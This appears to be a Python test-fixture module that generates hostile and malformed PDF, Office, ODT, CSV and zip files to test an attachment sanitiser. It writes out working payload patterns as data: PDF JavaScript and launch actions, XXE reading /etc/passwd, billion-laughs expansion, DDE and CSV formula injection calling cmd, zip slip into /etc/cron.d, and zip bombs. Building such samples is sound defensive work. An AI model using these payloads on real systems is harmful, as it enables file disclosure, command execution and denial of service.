"""Documents and packages that mean harm or are broken."""

import io
import struct
import zipfile
from collections.abc import Callable, Iterator
from dataclasses import dataclass

import pikepdf

from xaso.kernel.attachments.tests.honest import docx, external, odt, package, pdf, xlsx


@dataclass(frozen=True)
class Hostile:
    """One bad file: `door` is photo, document or recording."""

    kind: str
    door: str
    name: str
    data: bytes
    may_clean: bool = False


def documents() -> Iterator[Hostile]:
    """Yield every bad document."""
    yield from _bad_pdfs()
    yield from _bad_office()
    yield from _bad_packages()
    yield from _bad_tables()


def _on_opening(**entries: object) -> Callable[[pikepdf.Pdf], None]:
    def change(document: pikepdf.Pdf) -> None:
        document.Root.OpenAction = pikepdf.Dictionary({f"/{k}": v for k, v in entries.items()})

    return change


def _embedded(document: pikepdf.Pdf) -> None:
    document.attachments["a.exe"] = b"MZ"


def _form(document: pikepdf.Pdf) -> None:
    document.Root.AcroForm = pikepdf.Dictionary(Fields=pikepdf.Array(), XFA=pikepdf.String("x"))


def _hidden(document: pikepdf.Pdf) -> None:
    page = document.pages[0]
    page.obj.AA = pikepdf.Dictionary(O=pikepdf.Dictionary(S=pikepdf.Name.JavaScript, JS="1"))


def _circle(document: pikepdf.Pdf) -> None:
    document.Root.Pages.Kids[0] = document.Root.Pages


def _nested(document: pikepdf.Pdf) -> None:
    deep = pikepdf.Array()
    for _ in range(200):
        deep = pikepdf.Array([deep])
    document.Root.Deep = deep


def _bad_pdfs() -> Iterator[Hostile]:
    action = _on_opening

    name = pikepdf.Name
    yield Hostile(
        "pdf with javascript",
        "document",
        "a.pdf",
        pdf(action(S=name.JavaScript, JS="app.alert(1)")),
    )
    yield Hostile("pdf that launches", "document", "a.pdf", pdf(action(S=name.Launch, F="cmd.exe")))
    yield Hostile(
        "pdf that submits", "document", "a.pdf", pdf(action(S=name.SubmitForm, F="http://x"))
    )
    yield Hostile(
        "pdf that opens another", "document", "a.pdf", pdf(action(S=name.GoToR, F="b.pdf"))
    )

    for kind, change in (
        ("embedded file", _embedded),
        ("xfa form", _form),
        ("page action", _hidden),
        ("pages in a circle", _circle),
        ("200 nested arrays", _nested),
    ):
        yield Hostile(f"pdf with {kind}", "document", "a.pdf", pdf(change))
    yield Hostile("pdf of 2,001 pages", "document", "a.pdf", pdf(pages=2_001))
    yield Hostile("pdf of no page", "document", "a.pdf", pdf(pages=0))
    locked = io.BytesIO()
    document = pikepdf.new()
    document.add_blank_page()
    document.save(locked, encryption=pikepdf.Encryption(user="x", owner="y"))
    yield Hostile("pdf with a password", "document", "a.pdf", locked.getvalue())
    yield Hostile("pdf magic only", "document", "a.pdf", b"%PDF-1.7\n")
    yield Hostile("pdf of noise", "document", "a.pdf", b"%PDF-1.7\n" + bytes(range(256)) * 40)


def _bad_office() -> Iterator[Hostile]:
    rels = "word/_rels/document.xml.rels"
    yield Hostile(
        "docx with outside template",
        "document",
        "a.docx",
        docx({rels: external("attachedTemplate", "http://bad.example/t.dotm")}),
    )
    yield Hostile(
        "docx with outside picture",
        "document",
        "a.docx",
        docx({rels: external("image", "file:///etc/passwd")}),
    )
    yield Hostile(
        "docx with script link",
        "document",
        "a.docx",
        docx({rels: external("hyperlink", "javascript:alert(1)")}),
    )
    yield Hostile("docx with macros", "document", "a.docx", docx({"word/vbaProject.bin": b"x"}))
    yield Hostile(
        "docm as docx",
        "document",
        "a.docx",
        docx(main="application/vnd.ms-word.document.macroEnabled.main+xml"),
    )
    yield Hostile(
        "docx with an object", "document", "a.docx", docx({"word/embeddings/oleObject1.bin": b"x"})
    )
    yield Hostile(
        "docx with dde field",
        "document",
        "a.docx",
        docx({"word/document.xml": "<w><instrText>DDEAUTO c:\\cmd.exe</instrText></w>"}),
    )
    xxe = '<!DOCTYPE a [<!ENTITY x SYSTEM "file:///etc/passwd">]><a>&x;</a>'
    yield Hostile(
        "docx with outside entity", "document", "a.docx", docx({"word/document.xml": xxe})
    )
    laughs = (
        "<!DOCTYPE a ["
        + "".join(f'<!ENTITY l{n} "{f"&l{n - 1};" * 10 if n else "lol"}">' for n in range(10))
        + "]><a>&l9;</a>"
    )
    yield Hostile("docx with a billion laughs", "document", "a.docx", docx({"_rels/.rels": laughs}))
    yield Hostile("docx of broken xml", "document", "a.docx", docx({"_rels/.rels": "<a><b></a>"}))
    yield Hostile(
        "docx that is utf-16",
        "document",
        "a.docx",
        docx({"word/document.xml": xxe.encode("utf-16")}),
    )
    yield Hostile("xlsx with macros", "document", "a.xlsx", xlsx({"xl/vbaProject.bin": b"x"}))
    yield Hostile(
        "xlsx with old macro sheet", "document", "a.xlsx", xlsx({"xl/macrosheets/s.xml": "<a/>"})
    )
    yield Hostile(
        "xlsx with outside book",
        "document",
        "a.xlsx",
        xlsx({"xl/externalLinks/externalLink1.xml": "<a/>"}),
    )
    cell = "<worksheet><c><f>cmd|'/c calc'!A0</f></c></worksheet>"
    yield Hostile(
        "xlsx that starts a program", "document", "a.xlsx", xlsx({"xl/worksheets/s2.xml": cell})
    )
    yield Hostile(
        "odt with outside picture",
        "document",
        "a.odt",
        odt('<draw:image xlink:href="http://bad.example/a.png"/>'),
    )
    yield Hostile(
        "odt with a macro", "document", "a.odt", odt(more={"Basic/Standard/M.xml": "<a/>"})
    )
    yield Hostile(
        "odt with a listener",
        "document",
        "a.odt",
        odt('<script:event-listener xlink:href="vnd.sun.star.script:x"/>'),
    )
    yield Hostile(
        "odt with an object", "document", "a.odt", odt(more={"Object 1/content.xml": "<a/>"})
    )
    yield Hostile("odt with an entity", "document", "a.odt", odt(more={"content.xml": xxe}))
    manifest = "<m><manifest:encryption-data/></m>"
    yield Hostile(
        "odt with a password", "document", "a.odt", odt(more={"META-INF/manifest.xml": manifest})
    )
    yield Hostile(
        "presentation",
        "document",
        "a.odt",
        package(
            {"mimetype": "application/vnd.oasis.opendocument.presentation", "content.xml": "<a/>"}
        ),
    )


def _bad_packages() -> Iterator[Hostile]:
    yield Hostile("zip bomb", "document", "a.docx", docx({"word/media/a.bin": b"\0" * 40_000_000}))
    yield Hostile(
        "zip of 10,001 parts",
        "document",
        "a.docx",
        docx({f"word/{n}.xml": "" for n in range(10_001)}),
    )
    yield Hostile("zip slip", "document", "a.docx", docx({"../../../etc/cron.d/x": "x"}))
    yield Hostile("zip of absolute names", "document", "a.docx", docx({"/etc/passwd": "x"}))
    yield Hostile("zip inside zip", "document", "a.docx", docx({"word/a.zip": package({"a": "b"})}))
    whole = docx()
    yield Hostile("zip part longer than told", "document", "a.docx", _short_told(whole))
    yield Hostile("zip of overlapping parts", "document", "a.docx", _overlapping())
    yield Hostile("zip with a password", "document", "a.docx", _flagged(whole))
    twice = io.BytesIO(whole)
    with zipfile.ZipFile(twice, "a") as file:
        file.writestr("word/document2.xml", "<a/>")
    same = twice.getvalue().replace(b"word/document2.xml", b"word/document.xml\0")
    yield Hostile("zip name with nul", "document", "a.docx", same)


def _bad_tables() -> Iterator[Hostile]:
    yield Hostile(
        "csv that starts a program", "document", "a.csv", b"ten,so\n=cmd|'/c calc'!A0,1\n"
    )
    yield Hostile("csv with plus", "document", "a.csv", b"a\n+cmd|' /c x'!A1\n")
    yield Hostile("csv with dde", "document", "a.csv", b'a\n"=DDE(""cmd"";""/c x"";""x"")"\n')
    yield Hostile("csv of zeros", "document", "a.csv", b"\0" * 1_000)
    yield Hostile("csv cell of 1 MB", "document", "a.csv", b'"' + b"x" * 1_000_000 + b'"')
    yield Hostile("csv of too many rows", "document", "a.csv", b"1\n" * 1_048_577)


def _short_told(whole: bytes) -> bytes:
    """Return a package whose directory tells one byte less than its part unpacks to."""
    at = whole.index(b"PK\x01\x02") + 24
    size = struct.unpack_from("<I", whole, at)[0]
    return whole[:at] + struct.pack("<I", size - 1) + whole[at + 4 :]


def _overlapping() -> bytes:
    """Return a package whose second part begins inside its first."""
    whole = docx()
    first = whole.index(b"PK\x01\x02")
    second = whole.index(b"PK\x01\x02", first + 4)
    return whole[: second + 42] + struct.pack("<I", 5) + whole[second + 46 :]


def _flagged(whole: bytes) -> bytes:
    at = whole.index(b"PK\x01\x02") + 8
    return whole[:at] + b"\x01\0" + whole[at + 2 :]
